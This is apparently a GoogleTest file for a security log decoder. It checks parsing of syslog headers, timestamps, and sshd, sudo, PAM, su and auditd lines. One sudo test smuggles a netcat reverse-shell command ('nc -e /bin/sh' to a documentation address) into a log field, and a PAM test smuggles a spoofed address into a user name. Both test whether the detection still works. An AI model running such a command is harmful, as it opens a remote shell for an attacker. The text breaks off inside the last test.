// Log line decoders: realistic lines of every format (written for these tests), the fields
// and logsource a rule author relies on, auto-detection, and malformed input with reasons.
#include "parse/decode.h"

#include <map>
#include <string>
#include <tuple>
#include <vector>

#include <gtest/gtest.h>

#include "base/strings.h"

namespace vigil::parse {
namespace {

// 2026-11-20T12:00:00Z: RFC 3164 years are inferred from it.
const int64_t kNow = *ParseTimestamp("2026-11-20T12:00:00Z");

struct Decoded {
    Status status;
    event::Event ev;
    Format format = Format::kText;

    std::string operator[](std::string_view name) const { return std::string(ev.Get(name)); }
    bool has(std::string_view name) const { return ev.Find(name) >= 0; }
    std::vector<std::string> all(std::string_view name) const {
        std::vector<std::string> out;
        for (size_t i = 0; i < ev.size(); ++i)
            if (ev.field(i).name == name) out.emplace_back(ev.field(i).value);
        return out;
    }
    std::string time() const { return ev.time_ns ? FormatTimestamp(ev.time_ns) : "-"; }
};

Decoded Decode(std::string_view line, Format f = Format::kAuto, DecodeOptions opt = {}) {
    if (opt.now_ns == 0) opt.now_ns = kNow;
    LineDecoder d(opt);
    Decoded out;
    out.status = d.Decode(line, f, out.ev);
    out.format = d.last_format();
    return out;
}

std::string Error(const Decoded& d) { return d.status ? "" : d.status.error().message; }

// --- syslog ---

TEST(Syslog, Rfc5424WithStructuredDataAndBom) {
    auto d = Decode(
        "<165>1 2026-11-20T02:14:01.250+08:00 core-sw-02 netmond 4711 LINKDOWN "
        "[origin@32473 ip=\"192.0.2.10\" note=\"a \\\"quoted\\\" \\] word\"][meta seq=\"7\"] "
        "\xEF\xBB\xBFport ge-0/0/3 went down");
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d.format, Format::kSyslog);
    EXPECT_EQ(d.time(), "2026-11-19T18:14:01.250Z");
    EXPECT_EQ(d["facility"], "local4");
    EXPECT_EQ(d["severity"], "notice");
    EXPECT_EQ(d["host"], "core-sw-02");
    EXPECT_EQ(d["program"], "netmond");
    EXPECT_EQ(d["pid"], "4711");
    EXPECT_EQ(d["msgid"], "LINKDOWN");
    EXPECT_EQ(d["sd.origin@32473.ip"], "192.0.2.10");
    EXPECT_EQ(d["sd.origin@32473.note"], "a \"quoted\" ] word");
    EXPECT_EQ(d["sd.meta.seq"], "7");
    EXPECT_EQ(d["message"], "port ge-0/0/3 went down");
    EXPECT_EQ(d.ev.logsource.product, "linux");
    EXPECT_EQ(d.ev.logsource.service, "syslog");
}

TEST(Syslog, Rfc5424NilValues) {
    auto d = Decode("<14>1 - - - - - -", Format::kRfc5424);
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d.ev.time_ns, 0);
    EXPECT_FALSE(d.has("host"));
    EXPECT_EQ(d["message"], "");
}

TEST(Syslog, Rfc3164WithAndWithoutHostname) {
    auto a = Decode("<38>Nov 20 02:14:01 bank-web-01 sshd[2211]: Server listening on 0.0.0.0");
    ASSERT_TRUE(a.status) << Error(a);
    EXPECT_EQ(a["facility"], "auth");
    EXPECT_EQ(a["severity"], "info");
    EXPECT_EQ(a["host"], "bank-web-01");
    EXPECT_EQ(a["program"], "sshd");
    EXPECT_EQ(a["pid"], "2211");
    EXPECT_EQ(a.time(), "2026-11-20T02:14:01.000Z");
    EXPECT_EQ(a.ev.logsource.service, "sshd");

    auto b = Decode("<13>Nov  3 07:00:00 cron: nightly job started");
    ASSERT_TRUE(b.status) << Error(b);
    EXPECT_FALSE(b.has("host"));
    EXPECT_EQ(b["program"], "cron");
    EXPECT_EQ(b["message"], "nightly job started");
    EXPECT_EQ(b.time(), "2026-11-03T07:00:00.000Z");
    EXPECT_EQ(b.ev.logsource.service, "cron");

    // As written to /var/log files: no PRI.
    auto c = Decode("Nov 20 02:14:01 bank-web-01 kernel: Linux version 6.1.0");
    ASSERT_TRUE(c.status) << Error(c);
    EXPECT_EQ(c.format, Format::kSyslog);
    EXPECT_FALSE(c.has("facility"));
    EXPECT_EQ(c["program"], "kernel");
    EXPECT_EQ(c["message"], "Linux version 6.1.0");

    // Host and message without a tag.
    auto e = Decode("<190>Nov 20 02:14:01 fw-edge link flap on port 3");
    ASSERT_TRUE(e.status) << Error(e);
    EXPECT_EQ(e["host"], "fw-edge");
    EXPECT_FALSE(e.has("program"));
    EXPECT_EQ(e["message"], "link flap on port 3");

    // rsyslog's precise timestamps.
    auto f = Decode("2026-11-20T02:14:01.123456+00:00 db-01 postgres[88]: checkpoint complete");
    ASSERT_TRUE(f.status) << Error(f);
    EXPECT_EQ(f.time(), "2026-11-20T02:14:01.123Z");
    EXPECT_EQ(f["program"], "postgres");
}

TEST(Syslog, Rfc3164YearRollsOverAtNewYear) {
    DecodeOptions jan;
    jan.now_ns = *ParseTimestamp("2027-01-01T00:05:00Z");
    // Written on Dec 31 and read just after midnight: last year.
    EXPECT_EQ(Decode("Dec 31 23:59:58 h app: x", Format::kAuto, jan).time(),
              "2026-12-31T23:59:58.000Z");
    DecodeOptions dec;
    dec.now_ns = *ParseTimestamp("2026-12-31T23:59:00Z");
    // A sender whose clock runs a little ahead: next year.
    EXPECT_EQ(Decode("Jan  1 00:00:30 h app: x", Format::kAuto, dec).time(),
              "2027-01-01T00:00:30.000Z");
}

// A line spooled on Dec 31 and decoded after New Year (a backlog replayed from the spool)
// keeps the year it was received in: the receive time, not the decoder's clock, decides.
TEST(Syslog, Rfc3164YearFollowsTheReceiveTimeWhenGiven) {
    LineDecoder dec({.now_ns = *ParseTimestamp("2027-01-02T09:00:00Z")});
    event::Event ev;
    ASSERT_TRUE(dec.Decode("Dec 31 23:59:58 h app: x", Format::kAuto, ev,
                           *ParseTimestamp("2026-12-31T23:59:59Z")));
    EXPECT_EQ(FormatTimestamp(ev.time_ns), "2026-12-31T23:59:58.000Z");
    ASSERT_TRUE(dec.Decode("Jan  1 00:00:30 h app: x", Format::kAuto, ev,
                           *ParseTimestamp("2026-12-31T23:59:00Z")));
    EXPECT_EQ(FormatTimestamp(ev.time_ns), "2027-01-01T00:00:30.000Z");
    // Without a receive time the decoder's "now" decides, as before.
    ASSERT_TRUE(dec.Decode("Jan  2 08:00:00 h app: x", Format::kAuto, ev));
    EXPECT_EQ(FormatTimestamp(ev.time_ns), "2027-01-02T08:00:00.000Z");
}

// No year: the latest year that does not put the line more than a month ahead. A line read
// months late (a backlog, an old file tailed) is from the past, not from next year.
TEST(Syslog, Rfc3164YearIsTheLatestNotMoreThanAMonthAhead) {
    DecodeOptions dec;
    dec.now_ns = *ParseTimestamp("2026-11-23T08:00:00Z");
    EXPECT_EQ(Decode("May  7 10:00:00 h app: x", Format::kAuto, dec).time(),
              "2026-05-07T10:00:00.000Z");  // the closest year was 2027
    EXPECT_EQ(Decode("Dec 20 10:00:00 h app: x", Format::kAuto, dec).time(),
              "2026-12-20T10:00:00.000Z");  // within a month ahead
    EXPECT_EQ(Decode("Dec 31 10:00:00 h app: x", Format::kAuto, dec).time(),
              "2025-12-31T10:00:00.000Z");
    EXPECT_EQ(Decode("Nov 23 07:59:00 h app: x", Format::kAuto, dec).time(),
              "2026-11-23T07:59:00.000Z");
    // Feb 29 read in a year without one is the last leap year's (here 2024: no Feb 29 in 2025
    // to 2027).
    dec.now_ns = *ParseTimestamp("2025-03-15T08:00:00Z");
    EXPECT_EQ(Decode("Feb 29 10:00:00 h app: x", Format::kAuto, dec).time(),
              "2024-02-29T10:00:00.000Z");
}

// A zone for the times written without one: a UTC+8 host's "Nov 23 16:01:21" is 08:01:21Z. The
// year is chosen on the instant, so a line just after midnight local time is not put ahead.
TEST(Syslog, Rfc3164TimesAreReadInTheSourcesZone) {
    DecodeOptions dec;
    dec.now_ns = *ParseTimestamp("2026-11-23T08:05:00Z");
    dec.zone = *TimeZone::Parse("+08:00");
    auto d = Decode(
        "<38>Nov 23 16:01:21 web01 sshd[4242]: Failed password for root from 203.0.113.77 "
        "port 50022 ssh2",
        Format::kAuto, dec);
    EXPECT_EQ(d.time(), "2026-11-23T08:01:21.000Z");
    EXPECT_EQ(Decode("<38>Nov 23 2026 16:01:21 web01 app: x", Format::kAuto, dec).time(),
              "2026-11-23T08:01:21.000Z");
    // An RFC 3339 time with its offset keeps it.
    EXPECT_EQ(Decode("<38>2026-11-23T16:01:21+01:00 web01 app: x", Format::kAuto, dec).time(),
              "2026-11-23T15:01:21.000Z");
    // On New Year's Eve in UTC it is already January 1 in UTC+8: this year, not last.
    dec.now_ns = *ParseTimestamp("2026-12-31T16:30:00Z");
    EXPECT_EQ(Decode("Jan  1 00:29:00 h app: x", Format::kAuto, dec).time(),
              "2026-12-31T16:29:00.000Z");
}

// Auto-detection knows the headers the syslog decoder reads: with a year, an unpadded day.
TEST(Syslog, AutoDetectsBsdHeadersWithAYearOrAnUnpaddedDay) {
    for (const char* line : {"Nov 20 2026 03:00:08 srv01 sshd[5009]: error: Corrupted MAC",
                             "Nov 9 03:00:08 srv01 sshd[5009]: error: Corrupted MAC",
                             "Nov  9 03:00:08 srv01 sshd[5009]: error: Corrupted MAC"}) {
        auto d = Decode(line);
        EXPECT_EQ(d.format, Format::kSyslog) << line;
        EXPECT_EQ(d["program"], "sshd") << line;
    }
    EXPECT_NE(Decode("Nov 2026 was a month").format, Format::kSyslog);
}

// "Nov 9" (some devices do not pad the day) is the same header as "Nov  9": without it the
// whole line was the message, and sshd's fields (user, address) were lost to the rules.
TEST(Syslog, Rfc3164DayWithoutPadding) {
    for (const char* line :
         {"<38>Nov 9 01:02:03 web01 sshd[4242]: Failed password for root from 203.0.113.77 port "
          "50022 ssh2",
          "<38>Nov  9 01:02:03 web01 sshd[4242]: Failed password for root from 203.0.113.77 port "
          "50022 ssh2",
          "<38>Nov 09 01:02:03 web01 sshd[4242]: Failed password for root from 203.0.113.77 port "
          "50022 ssh2"}) {
        auto d = Decode(line);
        ASSERT_TRUE(d.status) << Error(d);
        EXPECT_EQ(d.time(), "2026-11-09T01:02:03.000Z") << line;
        EXPECT_EQ(d["host"], "web01") << line;
        EXPECT_EQ(d["program"], "sshd") << line;
        EXPECT_EQ(d.ev.logsource.service, "sshd") << line;
        EXPECT_EQ(d["user"], "root") << line;
    }
    // Not a day: the header is not a time (three digits, a padded two-digit day, none).
    EXPECT_EQ(Decode("Nov 123 01:02:03 h app: x").time(), "-");
    EXPECT_EQ(Decode("Nov  12 01:02:03 h app: x").time(), "-");
    EXPECT_EQ(Decode("Nov x 01:02:03 h app: x").time(), "-");
}

// The event's host is the syslog header's HOSTNAME, not a "host" key its JSON, CEF or LEEF
// payload holds (an application logging the HTTP Host header): that one is kept as another
// value.
TEST(Syslog, TheHeaderHostComesBeforeThePayloads) {
    auto d = Decode(
        R"(<134>1 2026-11-20T08:00:00Z web01 shop 812 - - {"host":"db07.corp","path":"/login"})");
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d["host"], "web01");
    EXPECT_EQ(d.all("host"), (std::vector<std::string>{"web01", "db07.corp"}));
    EXPECT_EQ(d["path"], "/login");
}

// A tag needs no space after its colon when it is clearly a tag (name[digits]:); "foo:bar"
// stays text, so a message that starts with a word and a colon is not taken apart.
TEST(Syslog, Rfc3164TagWithoutSpaceAfterColon) {
    auto d = Decode("Nov 20 02:14:11 host app[12]:no space after colon");
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d["host"], "host");
    EXPECT_EQ(d["program"], "app");
    EXPECT_EQ(d["pid"], "12");
    EXPECT_EQ(d["message"], "no space after colon");

    auto n = Decode("Nov 22 10:00:00 host foo:bar");
    ASSERT_TRUE(n.status) << Error(n);
    EXPECT_EQ(n["host"], "host");
    EXPECT_FALSE(n.has("program"));
    EXPECT_EQ(n["message"], "foo:bar");

    // Not a pid: not a tag.
    auto p = Decode("Nov 22 10:00:00 host x[y]:z");
    EXPECT_FALSE(p.has("program"));
    EXPECT_EQ(p["message"], "x[y]:z");
}

// A day the month lacks is not a date: the header still parses (host, program, the message
// decoded), the event has no time of its own (the receive time stands for it).
TEST(Syslog, Rfc3164ImpossibleDateIsNotATime) {
    auto d = Decode(
        "<38>Nov 31 02:14:01 web01 sshd[1]: Failed password for root from "
        "203.0.113.5 port 4711 ssh2");
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d.ev.time_ns, 0);
    EXPECT_EQ(d["host"], "web01");
    EXPECT_EQ(d["program"], "sshd");
    EXPECT_EQ(d["user"], "root");

    // 2027 (the year closest to now) has no February 29th.
    auto f = Decode("Feb 29 10:00:00 web01 app: x");
    ASSERT_TRUE(f.status) << Error(f);
    EXPECT_EQ(f.ev.time_ns, 0);
    EXPECT_EQ(f["program"], "app");
    auto y = Decode("<13>Feb 29 2026 10:00:00 web01 app: x");
    ASSERT_TRUE(y.status) << Error(y);
    EXPECT_EQ(y.ev.time_ns, 0);
    EXPECT_EQ(y["host"], "web01");
    // 2028 has one.
    EXPECT_EQ(Decode("<13>Feb 29 2028 10:00:00 web01 app: x").time(), "2028-02-29T10:00:00.000Z");
    DecodeOptions leap;
    leap.now_ns = *ParseTimestamp("2028-03-02T00:00:00Z");
    EXPECT_EQ(Decode("Feb 29 10:00:00 web01 app: x", Format::kAuto, leap).time(),
              "2028-02-29T10:00:00.000Z");
    EXPECT_EQ(Decode("Nov 30 23:59:59 web01 app: x").time(), "2026-11-30T23:59:59.000Z");
}

// rsyslog's "message repeated N times: [ MSG]" stands for N lines of MSG: MSG is decoded as
// the line's own message would be, and N is kept.
TEST(Syslog, MessageRepeatedIsDecoded) {
    auto d = Decode(
        "Nov 20 02:14:09 web01 sshd[1236]: message repeated 3 times: [ Failed password for "
        "root from 203.0.113.5 port 4711 ssh2]");
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d["repeated"], "3");
    EXPECT_EQ(d["user"], "root");
    EXPECT_EQ(d["source_ip"], "203.0.113.5");
    EXPECT_EQ(d["source_port"], "4711");
    EXPECT_EQ(d["outcome"], "failure");
    EXPECT_EQ(d.ev.logsource.service, "sshd");
    EXPECT_EQ(d["message"],
              "message repeated 3 times: [ Failed password for root from 203.0.113.5 port 4711 "
              "ssh2]");
    // Not the shape: left alone.
    auto n = Decode("Nov 20 02:14:09 web01 app: message repeated 3 times: Failed x");
    EXPECT_FALSE(n.has("repeated"));
}

// A sender's date must not hide its line from the rules: a timestamp that is no date, or past
// the years a time holds, leaves the event without a time of its own; the rest is decoded.
TEST(Syslog, AnUnusableTimestampIsNoTimeAndTheLineIsDecoded) {
    for (const char* ts : {"2026-13-45T99:00:00Z", "2300-01-01T00:00:00Z", "2026-02-30T10:00:00Z",
                           "1600-01-01T00:00:00Z"}) {
        auto d = Decode(std::string("<38>1 ") + ts +
                        " db-02 sshd 77 - - Failed password for root from 198.51.100.9 port 4000 "
                        "ssh2");
        ASSERT_TRUE(d.status) << ts << ": " << Error(d);
        EXPECT_EQ(d.ev.time_ns, 0) << ts;
        EXPECT_EQ(d["user"], "root") << ts;
        EXPECT_EQ(d["source_ip"], "198.51.100.9") << ts;
        EXPECT_EQ(d.ev.logsource.service, "sshd") << ts;
    }
    auto r = Decode(
        "2300-01-01T00:00:00+00:00 db-02 sshd[7]: Failed password for root from "
        "198.51.100.9 port 4000 ssh2");
    ASSERT_TRUE(r.status) << Error(r);
    EXPECT_EQ(r.ev.time_ns, 0);
    EXPECT_EQ(r["source_ip"], "198.51.100.9");
}

TEST(Syslog, Malformed) {
    EXPECT_EQ(Error(Decode("<999>Nov 20 02:14:01 h p: x", Format::kSyslog)),
              "syslog: at byte 0: bad PRI: expected <0..191>");
    EXPECT_EQ(Error(Decode("<14>1 2026-11-20T02:14:01Z host", Format::kRfc5424)),
              "rfc5424: at byte 31: truncated header: expected APP-NAME");
    EXPECT_EQ(Error(Decode("<14>1 - h a p m [x y=1]", Format::kRfc5424)),
              "rfc5424: at byte 19: expected name=\"value\" in structured data");
    EXPECT_EQ(Error(Decode("hello there", Format::kRfc3164)),
              "rfc3164: at byte 0: expected <PRI> or a timestamp");
}

// --- authentication ---

TEST(Auth, SshdMessages) {
    auto f = Decode(
        "Nov 20 02:14:01 bank-web-01 sshd[4242]: Failed password for root from "
        "203.0.113.45 port 52211 ssh2");
    ASSERT_TRUE(f.status) << Error(f);
    EXPECT_EQ(f["user"], "root");
    EXPECT_EQ(f["source_ip"], "203.0.113.45");
    EXPECT_EQ(f["source_port"], "52211");
    EXPECT_EQ(f["outcome"], "failure");
    EXPECT_EQ(f["auth_method"], "password");
    EXPECT_EQ(f.ev.logsource.service, "sshd");
    EXPECT_EQ(f.ev.logsource.product, "linux");

    auto i = Decode(
        "Nov 20 02:14:03 bank-web-01 sshd[4243]: Failed password for invalid user "
        "oracle from 203.0.113.45 port 52213 ssh2");
    EXPECT_EQ(i["user"], "oracle");
    EXPECT_EQ(i["invalid_user"], "true");

    auto a = Decode(
        "Nov 20 08:00:12 bank-web-01 sshd[5001]: Accepted publickey for deploy from "
        "198.51.100.20 port 40022 ssh2: ED25519 SHA256:abcdefghijklmnop");
    EXPECT_EQ(a["outcome"], "success");
    EXPECT_EQ(a["auth_method"], "publickey");
    EXPECT_EQ(a["user"], "deploy");
    EXPECT_EQ(a["source_ip"], "198.51.100.20");

    auto v = Decode(
        "Nov 20 02:14:06 bank-web-01 sshd[4244]: Invalid user admin from "
        "203.0.113.45 port 52215");
    EXPECT_EQ(v["user"], "admin");
    EXPECT_EQ(v["outcome"], "failure");
    EXPECT_EQ(v["source_port"], "52215");

    auto c = Decode(
        "Nov 20 02:14:07 bank-web-01 sshd[4244]: Connection closed by authenticating "
        "user root 203.0.113.45 port 52217 [preauth]");
    EXPECT_EQ(c["user"], "root");
    EXPECT_EQ(c["source_ip"], "203.0.113.45");

    // Standalone (no syslog header) with the auth decoder named.
    auto s = Decode("Failed publickey for git from 2001:db8::7 port 3333 ssh2", Format::kAuth);
    ASSERT_TRUE(s.status) << Error(s);
    EXPECT_EQ(s["source_ip"], "2001:db8::7");
    EXPECT_EQ(s.ev.logsource.service, "sshd");
}

TEST(Auth, SshdMaximumAuthenticationAttemptsExceeded) {
    auto d = Decode(
        "Nov 20 02:14:07 web01 sshd[1236]: error: maximum authentication attempts exceeded for "
        "root from 203.0.113.47 port 52215 ssh2 [preauth]");
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d["user"], "root");
    EXPECT_FALSE(d.has("invalid_user"));
    EXPECT_EQ(d["source_ip"], "203.0.113.47");
    EXPECT_EQ(d["source_port"], "52215");
    EXPECT_EQ(d["outcome"], "failure");

    auto i = Decode(
        "Nov 20 02:14:08 web01 sshd[1236]: error: maximum authentication attempts exceeded for "
        "invalid user oracle from 203.0.113.48 port 52216 ssh2 [preauth]");
    EXPECT_EQ(i["user"], "oracle");
    EXPECT_EQ(i["invalid_user"], "true");
    EXPECT_EQ(i["source_ip"], "203.0.113.48");
}

// OpenSSH 9.8 split sshd: authentication is logged by sshd-session and sshd-auth.
TEST(Auth, SshdSessionAndSshdAuthAreSshd) {
    auto f = Decode(
        "Nov 20 02:20:01 web01 sshd-session[4242]: Failed password for invalid user admin from "
        "203.0.113.45 port 52211 ssh2");
    ASSERT_TRUE(f.status) << Error(f);
    EXPECT_EQ(f.ev.logsource.product, "linux");
    EXPECT_EQ(f.ev.logsource.service, "sshd");
    EXPECT_EQ(f["program"], "sshd-session");
    EXPECT_EQ(f["user"], "admin");
    EXPECT_EQ(f["invalid_user"], "true");
    EXPECT_EQ(f["source_ip"], "203.0.113.45");
    EXPECT_EQ(f["outcome"], "failure");

    auto a = Decode(
        "Nov 20 02:20:05 web01 sshd-auth[4244]: Invalid user guest from 203.0.113.50 port 52217");
    EXPECT_EQ(a.ev.logsource.service, "sshd");
    EXPECT_EQ(a["user"], "guest");
    EXPECT_EQ(a["source_ip"], "203.0.113.50");

    // A message with nothing to decode is still the sshd service's.
    auto e = Decode("Nov 20 02:20:04 web01 sshd-session[4243]: error: Corrupted MAC on input.");
    ASSERT_TRUE(e.status) << Error(e);
    EXPECT_EQ(e.ev.logsource.service, "sshd");

    auto p = Decode(
        "Nov 20 02:20:03 web01 sshd-session[4243]: pam_unix(sshd:auth): authentication "
        "failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.49  user=root");
    EXPECT_EQ(p.ev.logsource.service, "sshd");
    EXPECT_EQ(p["pam_service"], "sshd");
    EXPECT_EQ(p["source_ip"], "203.0.113.49");
    EXPECT_EQ(p["outcome"], "failure");

    auto r = Decode(
        "<38>1 2026-11-20T02:20:06Z web01 sshd-session 4245 - - Failed password for root from "
        "203.0.113.46 port 1 ssh2");
    EXPECT_EQ(r.ev.logsource.service, "sshd");
    EXPECT_EQ(r["user"], "root");
}

// sshd writes "[authenticating|invalid ]user NAME IP port N" with the client's name as sent:
// the address is the last one, not one the name carries.
TEST(Auth, SshdAddressIsTakenFromTheRight) {
    auto c = Decode(
        "Nov 20 02:14:03 web01 sshd[1]: Connection closed by invalid user x 10.9.9.9 port 22 "
        "203.0.113.5 port 5557 [preauth]");
    ASSERT_TRUE(c.status) << Error(c);
    EXPECT_EQ(c.all("source_ip"), (std::vector<std::string>{"203.0.113.5"}));
    EXPECT_EQ(c["source_port"], "5557");
    EXPECT_EQ(c["user"], "x 10.9.9.9 port 22");
    EXPECT_EQ(c["invalid_user"], "true");

    auto d = Decode(
        "Nov 20 02:14:03 web01 sshd[1]: Disconnected from authenticating user root 10.9.9.9 "
        "port 22 203.0.113.5 port 5558 [preauth]");
    EXPECT_EQ(d.all("source_ip"), (std::vector<std::string>{"203.0.113.5"}));
    EXPECT_EQ(d["user"], "root 10.9.9.9 port 22");
    auto u = Decode(
        "Nov 20 02:14:03 web01 sshd[1]: Disconnected from user alice 198.51.100.7 port 40022");
    EXPECT_EQ(u["user"], "alice");
    EXPECT_EQ(u["source_ip"], "198.51.100.7");
    EXPECT_EQ(u["source_port"], "40022");
    auto r = Decode(
        "Nov 20 02:14:03 web01 sshd[1]: Connection reset by invalid user y 10.9.9.9 port 22 "
        "2001:db8::5 port 5559 [preauth]");
    EXPECT_EQ(r.all("source_ip"), (std::vector<std::string>{"2001:db8::5"}));

    // Without a name the address comes first, and the text after it (the client's own
    // disconnect message) cannot move it.
    auto m = Decode(
        "Nov 20 02:14:03 web01 sshd[1]: Received disconnect from 203.0.113.5 port 5560:11: "
        "bye 10.9.9.9 port 22 [preauth]");
    EXPECT_EQ(m.all("source_ip"), (std::vector<std::string>{"203.0.113.5"}));
    EXPECT_EQ(m["source_port"], "5560");
    // With a name and such a text, both sides are the client's: one address in between is
    // taken, two make the line ambiguous and none is.
    auto n = Decode(
        "Nov 20 02:14:03 web01 sshd[1]: Received disconnect from invalid user z 203.0.113.5 "
        "port 5561:11: Bye Bye [preauth]");
    EXPECT_EQ(n["user"], "z");
    EXPECT_EQ(n["source_ip"], "203.0.113.5");
    EXPECT_EQ(n["source_port"], "5561");
    auto a = Decode(
        "Nov 20 02:14:03 web01 sshd[1]: Received disconnect from invalid user z 10.9.9.9 port "
        "22:11: x 203.0.113.5 port 5562:11: bye [preauth]");
    EXPECT_FALSE(a.has("source_ip"));
    EXPECT_FALSE(a.has("user"));
    EXPECT_EQ(a["invalid_user"], "true");

    // Older sshd: no port.
    auto o = Decode("Nov 20 02:14:03 web01 sshd[1]: Connection closed by 203.0.113.6 [preauth]");
    EXPECT_EQ(o["source_ip"], "203.0.113.6");
}

TEST(Auth, SshdDisconnectingAfterTooManyFailures) {
    auto d = Decode(
        "Nov 20 02:14:09 web01 sshd[1236]: Disconnecting authenticating user root 203.0.113.5 "
        "port 22: Too many authentication failures [preauth]");
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d["user"], "root");
    EXPECT_EQ(d["source_ip"], "203.0.113.5");
    EXPECT_EQ(d["source_port"], "22");
    EXPECT_EQ(d["outcome"], "failure");
    EXPECT_EQ(d.ev.logsource.service, "sshd");

    auto i = Decode(
        "Nov 20 02:14:09 web01 sshd[1236]: Disconnecting invalid user oracle 203.0.113.5 port "
        "4711: Too many authentication failures [preauth]");
    EXPECT_EQ(i["user"], "oracle");
    EXPECT_EQ(i["invalid_user"], "true");
    EXPECT_EQ(i["outcome"], "failure");
    // Another reason is not an authentication failure.
    auto o = Decode(
        "Nov 20 02:14:09 web01 sshd[1236]: Disconnecting 203.0.113.5 port 4711: Bad packet "
        "length 1234. [preauth]");
    EXPECT_EQ(o["source_ip"], "203.0.113.5");
    EXPECT_FALSE(o.has("outcome"));
}

TEST(Auth, SudoCommandsAndFailures) {
    auto d = Decode(
        "Nov 20 09:30:00 app-01 sudo:    alice : TTY=pts/1 ; PWD=/home/alice ; "
        "USER=root ; COMMAND=/usr/bin/systemctl restart nginx ; echo done");
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d.ev.logsource.service, "sudo");
    EXPECT_EQ(d["user"], "alice");
    EXPECT_EQ(d["TTY"], "pts/1");
    EXPECT_EQ(d["PWD"], "/home/alice");
    EXPECT_EQ(d["USER"], "root");
    EXPECT_EQ(d["COMMAND"], "/usr/bin/systemctl restart nginx ; echo done");
    EXPECT_EQ(d["outcome"], "success");

    auto f = Decode(
        "Nov 20 09:31:00 app-01 sudo:      bob : 3 incorrect password attempts ; "
        "TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash");
    EXPECT_EQ(f["outcome"], "failure");
    EXPECT_EQ(f["reason"], "3 incorrect password attempts");
    EXPECT_EQ(f["COMMAND"], "/bin/bash");
}

// A directory (or a command's arguments) holding " ; USER=... ; COMMAND=..." makes a sudo
// line read two ways; both are kept, so a rule on the real command or target user still fires.
TEST(Auth, ASudoLineThatReadsTwoWaysKeepsBothReadings) {
    using V = std::vector<std::string>;
    auto d = Decode(
        "Nov 20 09:30:00 app-01 sudo:    mallory : TTY=pts/1 ; PWD=/tmp/x ; USER=root ; "
        "COMMAND=/bin/true ; USER=bob ; COMMAND=/usr/bin/nc -e /bin/sh 203.0.113.9 4444");
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d["user"], "mallory");
    EXPECT_EQ(d.all("COMMAND"),
              (V{"/bin/true ; USER=bob ; COMMAND=/usr/bin/nc -e /bin/sh 203.0.113.9 4444",
                 "/usr/bin/nc -e /bin/sh 203.0.113.9 4444"}));
    EXPECT_EQ(d.all("USER"), (V{"root", "bob"}));
    EXPECT_NE(d["vigil.ambiguous"].find("COMMAND= 2 times"), std::string::npos);
    // One reading only: nothing added.
    auto one = Decode(
        "Nov 20 09:30:00 app-01 sudo:    alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; "
        "COMMAND=/usr/bin/systemctl restart nginx ; echo done");
    EXPECT_EQ(one.all("COMMAND").size(), 1u);
    EXPECT_FALSE(one.has("vigil.ambiguous"));
}

TEST(Auth, PamAuthenticationFailure) {
    auto d = Decode(
        "Nov 20 02:15:00 bank-web-01 sshd[4250]: pam_unix(sshd:auth): authentication "
        "failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.45  user=root");
    ASSERT_TRUE(d.status) << Error(d);
    EXPECT_EQ(d["pam_module"], "pam_unix");
    EXPECT_EQ(d["pam_service"], "sshd");
    EXPECT_EQ(d["pam_type"], "auth");
    EXPECT_EQ(d["outcome"], "failure");
    EXPECT_EQ(d["rhost"], "203.0.113.45");
    EXPECT_EQ(d["source_ip"], "203.0.113.45");
    EXPECT_EQ(d["user"], "root");
    EXPECT_FALSE(d.has("logname"));  // empty values are left out
    EXPECT_EQ(d.ev.logsource.service, "sshd");

    // The user name is the client's text: one holding " rhost=..." adds no address.
    auto spoof = Decode(
        "Nov 20 02:15:00 bank-web-01 sshd[4250]: pam_unix(sshd:auth): authentication "
        "failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.45  user=x rhost=10.9.9.9");
    ASSERT_TRUE(spoof.status) << Error(spoof);
    EXPECT_EQ(spoof.all("source_ip"), (std::vector<std::string>{"203.0.113.45"}));
    EXPECT_EQ(spoof["user"], "x rhost=10.9.9.9");

    auto su = Decode(
        "Nov 20 10:00:00 app-01 su[777]: pam_unix(su:session): session opened for "
        "user root(uid=0) by alice(uid=1000)");
    EXPECT_EQ(su["user"], "root");
    EXPECT_EQ(su["outcome"], "success");
    EXPECT_EQ(su.ev.logsource.service, "auth");
}

// --- auditd ---

// A 32-bit process's syscall gets its name too (i386 and ARM number them otherwise than
// x86_64 and aarch64): a web shell's 32-bit execve is an execve to the rules.
TEST(Auditd, SyscallNamesOf32BitProcesses) {
    for (const auto& [arch, number, name] :
         std::vector<std::tuple<std::string, std::string, std::string>>{
             {"40000003", "11", "execve"},
             {"40000028", "11", "execve"},
             {"40000003", "358", "execveat"},
             {"40000028", "387", "execveat"},
             {"40000003", "362", "connect"},
             {"40000028", "283", "connect"},
             {"c000003e", "59", "execve"},
             {"c00000b7", "221", "execve"}}) {
        auto d = Decode("type=SYSCALL msg=audit(1795000000.120:902): arch=" + arch +
                        " syscall=" + number + " success=yes exit=0 euid=33 comm=\"sh\"");
        ASSERT_TRUE(d.status) << Error(d);
        EXPECT_EQ(d["SYSCALL"], name) << arch << " " << number;
    }
}

// Programs whose syslog lines Sigma's rules know by service: crontab's edits (cron), the web
// servers' error logs (nginx, apache).
// util-linux's su (Debian, Ubuntu, RHEL) writes its own wording.
TEST(Auth, UtilLinuxSu) {
    auto failed = Decode("Nov 20 03:20:23 srv01 su[6023]: FAILED SU (to root) alice on pts/1");
    EXPECT_EQ(failed["user"], "root");
    EXPECT_EQ(failed["src_user"], "alice");
    EXPECT_EQ(failed["tty"], "pts/1");
    EXPECT_EQ(failed["outcome"], "failure");
    EXPECT_EQ(failed.ev.logsource.service, "auth");
    auto ok = Decode("Nov 20 03:20:25 srv01 su[6025]: (to root) alice on pts/1");
    EXPECT_EQ(ok["user"], "root");
    EXPECT_EQ(ok["src_user"], "alice");
